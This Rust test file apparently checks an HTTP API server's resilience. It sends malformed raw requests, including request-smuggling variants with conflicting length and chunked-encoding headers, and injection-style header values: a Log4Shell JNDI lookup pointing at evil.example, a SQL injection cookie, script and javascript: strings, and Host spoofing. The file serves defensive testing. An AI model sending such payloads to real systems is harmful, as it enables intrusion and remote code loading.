//! Bytes that are hardly HTTP, and headers that nobody needs. What the HTTP library refuses is its own to word; whatever
//! it is, it is no fault of the server's, and the next request is answered.

use signet_tests::{Stack, TestResponse};

/// Checks that what was sent broke nothing: an answer of 4xx or none at all, and the next is answered.
async fn withstood(stack: &Stack, what: &str, answer: Option<TestResponse>) {
    if let Some(answer) = answer {
        assert!((400..500).contains(&answer.status), "{what}: {} {}", answer.status, answer.text);
        if answer.header("content-type") == "application/problem+json" {
            let code = answer.body["code"].as_str().unwrap_or_default().to_owned();
            answer.expect_problem(answer.status, &code);
        }
    }
    stack.operator.get("products").await.expect_status(200);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_no_http_is_refused_and_breaks_nothing() {
    let stack = Stack::start_without_rate_limits().await;
    let before = stack.snapshot_items().await;
    let key = stack.local.operator_api_key.expose().to_owned();
    let post = |rest: &str| {
        let head = "POST /api/v1.0/customers HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n";
        format!("{head}X-Api-Key: {key}\r\nConnection: close\r\n{rest}").into_bytes()
    };
    let get = |rest: &[u8]| [b"GET /api/v1.0/nothing HTTP/1.1\r\nHost: a\r\nConnection: close\r\n", rest].concat();
    let many = "X-Many: 1\r\n".repeat(5000);
    let long = |name: &str, length: usize| format!("{name}: {}\r\n\r\n", "a".repeat(length)).into_bytes();
    let body = r#"{"name":"Ada","email":"ada@example.com"}"#;
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("nothing but a line's end", b"\r\n\r\n".to_vec()),
        ("no HTTP", b"hello\r\n\r\n".to_vec()),
        ("TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec()),
        ("HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec()),
        ("HTTP/0.9", b"GET /api/v1.0/products\r\n\r\n".to_vec()),
        ("another version", b"GET / HTTP/9.9\r\nHost: a\r\n\r\n".to_vec()),
        ("no target", b"GET  HTTP/1.1\r\nHost: a\r\n\r\n".to_vec()),
        ("a space in the target", b"GET /api/v1.0/a b HTTP/1.1\r\nHost: a\r\n\r\n".to_vec()),
        ("bytes in the target", b"GET /api/v1.0/\xff\xfe HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n".to_vec()),
        ("a NUL in the target", b"GET /api/v1.0/a\0b HTTP/1.1\r\nHost: a\r\n\r\n".to_vec()),
        ("a relative target", b"GET api/v1.0/products HTTP/1.1\r\nHost: a\r\n\r\n".to_vec()),
        ("a method of odd letters", b"G\x7fT / HTTP/1.1\r\nHost: a\r\n\r\n".to_vec()),
        (
            "a target of 100 KiB",
            [b"GET /".to_vec(), b"a".repeat(100 * 1024), b" HTTP/1.1\r\nConnection: close\r\n\r\n".to_vec()].concat(),
        ),
        (
            "a query of 100 KiB",
            [
                b"GET /api/v1.0/products?x=".to_vec(),
                b"a".repeat(100 * 1024),
                b" HTTP/1.1\r\nConnection: close\r\n\r\n".to_vec(),
            ]
            .concat(),
        ),
        ("a header of 8 KiB", get(&long("X-Long", 8 * 1024))),
        ("a header of 100 KiB", get(&long("X-Long", 100 * 1024))),
        ("a header of a megabyte", get(&long("X-Long", 1024 * 1024))),
        ("an API key of 100 KiB", get(&long("X-Api-Key", 100 * 1024))),
        ("a header's name of 100 KiB", get(&[&b"a".repeat(100 * 1024)[..], b": 1\r\n\r\n"].concat())),
        ("5000 headers", get(&[many.as_bytes(), b"\r\n"].concat())),
        ("a header without a name", get(b": a\r\n\r\n")),
        ("a header without a colon", get(b"no colon\r\n\r\n")),
        ("a space before the colon", get(b"X-Api-Key : a\r\n\r\n")),
        ("a folded header", get(b"X-A: a\r\n b\r\n\r\n")),
        ("a NUL in a header", get(b"X-A: a\0b\r\n\r\n")),
        ("a bare line feed in a header", get(b"X-A: a\nX-Api-Key: b\r\n\r\n")),
        ("bytes in a header", get(b"X-Api-Key: \xff\xfe\r\nAuthorization: \xff\r\n\r\n")),
        ("a length that is none", post("Content-Length: x\r\n\r\n{}")),
        ("a length below zero", post("Content-Length: -1\r\n\r\n{}")),
        ("a length beyond all", post("Content-Length: 99999999999999999999\r\n\r\n{}")),
        ("two lengths", post(&format!("Content-Length: 2\r\nContent-Length: {}\r\n\r\n{body}", body.len()))),
        (
            "a length and chunks",
            post(&format!("Content-Length: 5\r\nTransfer-Encoding: chunked, identity\r\n\r\n{body}")),
        ),
        ("chunks that are none", post(&format!("Transfer-Encoding: chunked\r\n\r\nzz\r\n{body}\r\n0\r\n\r\n"))),
        ("a chunk beyond all", post("Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n{}\r\n0\r\n\r\n")),
        ("another encoding", post(&format!("Transfer-Encoding: gzip\r\n\r\n{body}"))),
        ("a compressed body", post("Content-Encoding: gzip\r\nContent-Length: 4\r\n\r\n\x1f\u{8b}\0")),
    ];
    for (what, bytes) in cases {
        let answer = stack.send_raw(&bytes).await;
        withstood(&stack, what, answer).await;
    }
    stack.assert_unchanged_since(&before).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_comes_after_a_request_is_no_part_of_it() {
    let stack = Stack::start_without_rate_limits().await;
    let before = stack.snapshot_items().await;
    let key = stack.local.operator_api_key.expose();
    // A second request hidden in the body of the first is a body, and is refused as one.
    let hidden =
        format!("POST /api/v1.0/products HTTP/1.1\r\nHost: a\r\nX-Api-Key: {key}\r\nContent-Length: 2\r\n\r\n{{}}");
    let outer = format!(
        "POST /api/v1.0/license-keys/validate HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nConnection: close\r\n\
         Content-Length: {}\r\n\r\n{hidden}",
        hidden.len()
    );
    let answer = stack.send_raw(outer.as_bytes()).await;
    answer.as_ref().inspect(|answer| assert!(!answer.text.contains("HTTP/1.1"), "one answer: {}", answer.text));
    if let Some(answer) = answer {
        answer.expect_problem(400, "malformed_json");
    }
    // A body that stops short is not taken for a whole one.
    let cut = format!(
        "POST /api/v1.0/products HTTP/1.1\r\nHost: a\r\nX-Api-Key: {key}\r\nContent-Type: application/json\r\nConnection: close\r\n\
         Transfer-Encoding: chunked\r\n\r\n1f\r\n{}\r\n0",
        r#"{"code":"atlas","name":"Atlas"}"#
    );
    let mut stream =
        tokio::net::TcpStream::connect(stack.local.base_url.trim_start_matches("http://")).await.expect("it listens");
    tokio::io::AsyncWriteExt::write_all(&mut stream, cut.as_bytes()).await.expect("it is sent");
    drop(stream);
    stack.operator.get("products").await.expect_status(200);
    stack.assert_unchanged_since(&before).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn headers_of_any_kind_change_nothing_that_is_not_theirs() {
    let stack = Stack::start_without_rate_limits().await;
    for (name, value) in [
        ("accept", "text/html"),
        ("accept", "*/*;q=0"),
        ("accept-encoding", "\u{1}x, *;q=9"),
        ("accept-language", &"x".repeat(4000)),
        ("content-length", "0"),
        ("cookie", "session=' OR 1=1"),
        ("expect", "200-ok"),
        ("forwarded", "for=1.2.3.4"),
        ("host", "evil.example"),
        ("if-match", "\"a\", *"),
        ("if-none-match", "\"\u{ff}\""),
        ("if-modified-since", "yesterday"),
        ("origin", "null"),
        ("origin", "https://evil.example"),
        ("range", "bytes=0-1"),
        ("referer", "javascript:alert(1)"),
        ("upgrade", "h2c"),
        ("user-agent", "${jndi:ldap://evil.example/a}"),
        ("x-amzn-trace-id", "Root=<script>"),
        ("x-forwarded-for", "1.2.3.4, 5.6.7.8"),
        ("x-forwarded-host", "evil.example"),
        ("x-http-method-override", "DELETE"),
        ("x-original-url", "/api/v1.0/api-keys"),
        ("idempotency-key", "on a GET it means nothing"),
    ] {
        let with = |request: reqwest::RequestBuilder| match reqwest::header::HeaderValue::from_bytes(value.as_bytes()) {
            Ok(value) => request.header(name, value),
            Err(_) => request,
        };
        let answer = stack.operator.send(reqwest::Method::GET, "products", with).await;
        assert_eq!(answer.status, 200, "{name}: {value}: {}", answer.text);
        assert_eq!(answer.header("access-control-allow-origin"), "", "{name}: {value}");
        assert!(!answer.text.contains("evil.example") && answer.header("location").is_empty(), "{name}: {value}");
    }
}
